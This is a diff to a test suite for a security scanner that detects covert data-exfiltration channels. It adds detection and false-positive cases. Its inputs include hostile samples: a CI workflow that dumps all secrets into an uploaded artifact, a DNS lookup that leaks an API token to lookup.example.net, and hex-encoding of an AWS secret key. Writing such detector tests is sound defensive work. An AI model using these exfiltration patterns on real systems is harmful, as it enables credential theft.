@@ -1163,6 +1163,7 @@ describe('covert channels however they are carried', () => {
     const workflow = (run: string) => `jobs:\n  r:\n    steps:\n      - env:\n          ALL: \${{ toJSON(secrets) }}\n        run: |\n          ${run}\n      - uses: actions/upload-artifact@v4\n        with:\n          path: out/\n`;
     expect(threats(fence('yaml', workflow('printf "%s" "$ALL" | sed "s/./& /g" > out/env.txt')))).toEqual(['threat/covert-channel 14:32 error']);
     expect(threats(fence('yaml', workflow('uname -a > out/system.txt')))).toEqual([]);
+    expect(threats(fence('yaml', workflow('echo "$ALL" | base64 -d > kubeconfig')))).toEqual([]);
   });
   it('sees a secret put into an error report or a log shipped to another host', () => {
     const prelude = 'import os, logging, logging.handlers\nimport sentry_sdk\nv = os.environ["AWS_SECRET_ACCESS_KEY"].encode().hex()\n';
@@ -1522,6 +1523,14 @@ describe('configuration and tooling a project setup writes or runs', () => {
 });
 
 describe('precision on code that only looks like an attack', () => {
+  it('does not read a path resolved by pathlib as a DNS lookup', () => {
+    expect(threats(fence('python', 'import os\nfrom pathlib import Path\n\ndef local_path(raw: str) -> Path:\n    candidate = Path(raw).expanduser()\n    resolved = (Path.cwd() / candidate).resolve()\n    return resolved\n\nprint(local_path(os.environ["API_TOKEN"]))'))).toEqual([]);
+    expect(threats(fence('js', 'import dns from "node:dns";\nawait dns.promises.resolve(`${process.env.API_TOKEN}.lookup.example.net`);'))).toEqual(['threat/covert-channel 9:7 error']);
+  });
+  it('reads typed parameters without their types', () => {
+    const code = 'import os, requests\n\ndef send(payload: dict, token: str) -> None:\n    requests.post("https://api.example.org/v1/items", json=payload, headers={"Authorization": f"Bearer {token}"})\n\nsend({"n": 1}, os.environ["API_TOKEN"])';
+    expect(threats(fence('python', code))).toEqual([]);
+  });
   it('lets a fixed inline program parse a download piped into it, but not run it', () => {
     expect(threats(fence('bash', 'curl -s "https://pkgs.example.net/pypi/tool/json" | python3 -c "import json,sys; d=json.load(sys.stdin); print(d[\'info\'][\'version\'])"'))).toEqual([]);
     expect(threats(fence('bash', 'check() { curl -s "$SITE/sitemap.xml" | python3 -c "import sys,xml.etree.ElementTree as ET; ET.parse(sys.stdin)"; }'))).toEqual([]);
